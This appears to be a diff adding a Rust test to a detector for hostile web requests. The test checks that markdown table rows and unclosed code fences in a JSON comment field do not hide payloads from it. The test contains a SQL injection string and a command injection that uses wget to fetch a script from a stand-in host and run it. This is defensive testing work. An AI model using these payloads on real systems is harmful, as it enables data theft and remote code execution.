@@ -299,3 +299,17 @@ proptest! {
         prop_assert!(together >= alone, "{alone} points alone, {together} with more: {:?}", request(&whole));
     }
 }
+
+/// What a text shows is no attack of its author's; but nobody gets that for a sign or two before a payload.
+#[test]
+fn neither_a_row_of_a_table_nor_a_fence_that_is_never_closed_shields_a_payload() {
+    let comment = |text: &str| Request::post("application/json", serde_json::json!({ "comment": text }).to_string());
+    let rows = ["|a|{}|", "| a | b |\n|---|---|\n| x | {} |", "```\n{}", "````\n```\n{}"];
+    for (number, row) in rows.into_iter().enumerate() {
+        let number = 2 * number;
+        let select = format!("{number}' UNION SELECT c{number} FROM users--");
+        let command = format!("; wget http://e.example/{number} -O /tmp/a; sh /tmp/a");
+        let request = |payload: &str| comment(&row.replace("{}", payload));
+        check(row, &[(0, request(&select), 8), (LATER, request(&command), 8)]);
+    }
+}
